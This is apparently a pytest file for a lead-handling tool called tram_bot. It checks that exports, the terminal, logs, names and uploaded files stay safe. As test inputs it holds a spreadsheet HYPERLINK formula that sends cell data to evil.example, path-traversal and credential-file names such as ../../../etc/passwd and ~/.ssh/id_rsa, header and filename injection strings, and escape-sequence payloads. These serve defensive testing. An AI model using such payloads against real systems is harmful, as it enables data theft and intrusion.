"""What is shown in a table, on a terminal and in a log, and names that are made to fool."""

import csv
import io
import itertools
import json
import logging
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests import values as example
from tram_bot.cli import main
from tram_bot.core.answers import Wrote
from tram_bot.core.content import Content
from tram_bot.core.file_kinds import suspicious
from tram_bot.core.file_names import clean_file_name
from tram_bot.core.hygiene import clean
from tram_bot.core.identifiers import ConversationId, LeadId
from tram_bot.core.lead import Happening, Lead
from tram_bot.core.lead_card import lead_card
from tram_bot.core.lead_export import table, whole_lead
from tram_bot.desk.terminal import laid_out_card
from tram_bot.log_lines import LogLines
from tram_bot.matching.duplicates import duplicates
from tram_bot.ports import LeadSign
from tram_bot.text_layout import Paper

COMMAND = 'HYPERLINK("https://evil.example/?"&A1,"open")'
STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"]
BEFORE = ["", " ", "\t", "\r", "\n", "\u00a0", "'", '"', ' "', "“"]
BEHIND = ["", "steel;", "steel; ", "one\n", "one\t", "one\r\n"]


def cells(text: str, separator: str) -> Iterator[str]:
    """The cells that a spreadsheet makes of a table, as it finds this separator."""
    for line in text.splitlines():
        yield from line.split(separator)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row


@pytest.mark.parametrize("start", STARTS)
def test_no_cell_computes_whatever_parts_the_cells(content: Content, start: str) -> None:
    for before, behind in itertools.product(BEFORE, BEHIND):
        words = f"{behind}{before}{start}{COMMAND}"
        answers = {"problem": example.answer(Wrote(text=words), words)}
        exported = table(content, [replace(example.lead(), answers=answers)], confidential=True)
        assert "HYPERLINK" in exported
        for separator in (",", ";", "\t"):
            for cell in cells(exported, separator):
                assert not computes(cell), (separator, cell)


def computes(cell: str) -> bool:
    """Whether a lenient spreadsheet would: it leaves out blanks and quotation marks in front, but
    for an apostrophe of ours, which says that a text follows."""
    begins = cell.lstrip('" ')
    return not begins.startswith("'") and begins.lstrip('"`“”„‘’ \u00a0').startswith(tuple(STARTS))


def test_what_is_for_programs_is_untouched(content: Content) -> None:
    answers = {"problem": example.answer(Wrote(text="=1+1"), "=1+1")}
    lead = replace(example.lead(), questionnaire="gone", answers=answers)
    assert "=1+1" in json.dumps(whole_lead(content, lead, confidential=True))


STEERING = "red \x1b[31m\x9b2J\x07 \u202eturned\u2066 \r\nBT-PL-26-9999 \x00"


def test_nothing_steers_the_terminal(
    content: Content,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TRAM_BOT_DATABASE", str(tmp_path / STEERING.strip("\0")))
    lead = replace(
        example.lead(),
        company=STEERING,
        unrecognised=(STEERING,),
        history=(Happening(at=example.NOW, who=STEERING, step="claim", detail=STEERING),),
    )
    card = lead_card(content, lead, lead.centre)
    shown = laid_out_card(content, card, lead.centre, Paper(width=100))
    main(["leads", "show", STEERING])
    main(["understand", STEERING, "--json"])
    main(["match", STEERING])
    told = capsys.readouterr()
    for text in (shown, told.out, told.err):
        assert not set(text) & set("\x1b\x9b\x07\x00\r\u202e\u2066"), text
    assert "red \\u001b[31m" in told.err
    json.loads(told.out[told.out.index("{") : told.out.rindex("}") + 1])


def test_no_line_of_the_log_can_be_forged_and_no_error_quotes_anybody() -> None:
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(LogLines())
    log = logging.getLogger("tram_bot.example")
    log.addHandler(handler)
    try:
        try:
            int("MARKED words of somebody")
        except ValueError as error:
            raise KeyError("MARKED too") from error
    except KeyError:
        log.exception("failed: %s", "x\nINFO forged: line\r\x1b[2J\u202e")
    finally:
        log.removeHandler(handler)
    first, *rest = out.getvalue().splitlines()
    assert first == r'ERROR tram_bot.example: failed: "x\nINFO forged: line\r\u001b[2J\u202e"'
    assert "MARKED" not in "\n".join(
        line for line in rest if "raise" not in line and "int(" not in line
    )
    assert [line for line in rest if not line.startswith(" ")] == [
        "builtins.ValueError", "which led to", "builtins.KeyError",
    ]  # fmt: skip


def test_the_program_writes_its_log_that_way() -> None:
    root = logging.getLogger()
    kept, root.handlers = root.handlers, []
    try:
        main(["slack-manifest"])
        (handler,) = root.handlers
        assert isinstance(handler.formatter, LogLines)
    finally:
        root.handlers = kept


def sign(company: str, domain: str = "") -> LeadSign:
    return LeadSign(
        id=LeadId("other"), reference="BT-PL-26-0001", conversation=ConversationId("x:1"),
        company=company, email_domain=domain, country="PL", submitted_at=example.NOW,
    )  # fmt: skip


@pytest.mark.parametrize(
    ("company", "domain"),
    [
        ("Exаmple Coatings Oy", ""),  # Cyrillic а
        ("ЕхамрӀе Соаtіngѕ Оу".replace("амрӀе", "аmple"), ""),
        ("Ｅｘａｍｐｌｅ Coatings", ""),
        ("𝐄𝐱𝐚𝐦𝐩𝐥𝐞 Coatings", ""),
        ("Example\u00a0Coatings", ""),
        ("Εxample Cοatings", ""),  # Greek Ε and ο
        ("Another name", "exаmple.org"),
    ],
)
def test_a_name_in_letters_that_look_the_same_is_known_again(company: str, domain: str) -> None:
    lead = replace(
        example.lead(), country="PL", company="Example Coatings Oy", email_domain="example.org"
    )
    assert [each.company for each in duplicates(lead, [sign(company, domain)])] == [company]


def notices(content: Content, **changes: str) -> str:
    lead: Lead = replace(example.lead(), **changes)  # type: ignore[arg-type]
    return "\n".join(lead_card(content, lead, lead.centre).notices)


def test_staff_are_told_of_letters_that_stand_for_others(content: Content) -> None:
    assert "Look twice: in “Exаmple”" in notices(content, company="Exаmple Coatings Oy")
    assert "Look twice: in “exаmple.org”" in notices(content, email_domain="exаmple.org")
    for honest in ("Example Coatings Oy", "Łódź Łożyska Sp. z o.o.", "Пример ООО", "β-Coat µm Ω"):
        assert "Look twice" not in notices(content, company=honest)


@pytest.mark.parametrize(
    "name", ["Example \u202eyO sgnitaoC", "Ex\u200bam\u2060ple", "\u2066Example\u2069", "E\u00adx"]
)
def test_no_name_turns_its_line_around_or_hides_a_letter(name: str) -> None:
    kept = clean(name)
    assert kept.isprintable()
    assert set(kept) <= set("Example yO sgnitaoC")


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../../etc/passwd", "etc_passwd"),
        ("..\\..\\windows\\system32", "windows_system32"),
        ("C:\\boot.ini", "C__boot.ini"),
        ("\\\\server\\share\\x", "server_share_x"),
        ("a\r\nContent-Type: text/html\r\n\r\nx", "a Content-Type_ text_html x"),
        ('x"; filename="evil.exe', "x_; filename=_evil.exe"),
        ("-rf", "rf"),
        ("~/.ssh/id_rsa", "~_.ssh_id_rsa"),
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("%2e%2e%2fetc", "%2e%2e%2fetc"),
    ],
)
def test_a_file_name_leads_nowhere(name: str, kept: str) -> None:
    assert clean_file_name(name) == kept


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("report.pdf", b"MZ" + bytes(62), "program"),
        ("report.pdf", b"\x7fELF\x02", "program"),
        ("report.pdf", b"\xca\xfe\xba\xbe", "program"),
        ("report.pdf", b"#!/bin/sh\n", "script"),
        ("report.pdf", b"L\0\0\0\x01\x14\x02\0", "shortcut"),
        ("report.pdf", b"\xef\xbb\xbf \n<!DOCTYPE HTML>", "web_page"),
        ("report.pdf", b"<!-- x --><SCRIPT>", "web_page"),
        ("drawing.svg", b"<?xml version='1.0'?>\n<svg onload='x'/>", "web_page"),
        ("page.html", "<html>".encode("utf-16"), "web_page"),
        ("report.pdf", b"PK\x03\x04", "archive"),
        ("photo.png", b"%PDF-1.7", "pdf"),
        ("table.xlsx", b"\xd0\xcf\x11\xe0", "office"),
        ("report.pdf.js", b"var x", "program"),
        ("REPORT.EXE", b"", "program"),
        ("report.pdf", b"junk %PDF-1.7", None),
        ("photo.jpg", b"\x89PNG\r\n\x1a\n", None),
        ("table.xlsx", b"PK\x03\x04", None),
        ("measured.csv", b"MZ;1;2", None),
        ("measured.xml", b"<?xml version='1.0'?><header/>", None),
        ("scan.tif", b"II*\0", None),
        ("noname", b"", None),
    ],
)
def test_what_a_file_is_by_its_first_bytes(name: str, data: bytes, kind: str | None) -> None:
    found = suspicious(name, data)
    assert (found.value if found else None) == kind


def test_nothing_in_here_opens_an_archive() -> None:
    modules = {name for name in sys.modules if name.startswith("tram_bot")}
    assert "tram_bot.cli" in modules
    openers = ("zipfile", "tarfile", "gzip", "bz2", "lzma", "zlib", "shutil.unpack_archive")
    for name in modules:
        module = vars(sys.modules[name])
        assert not any(opener in module for opener in openers), name
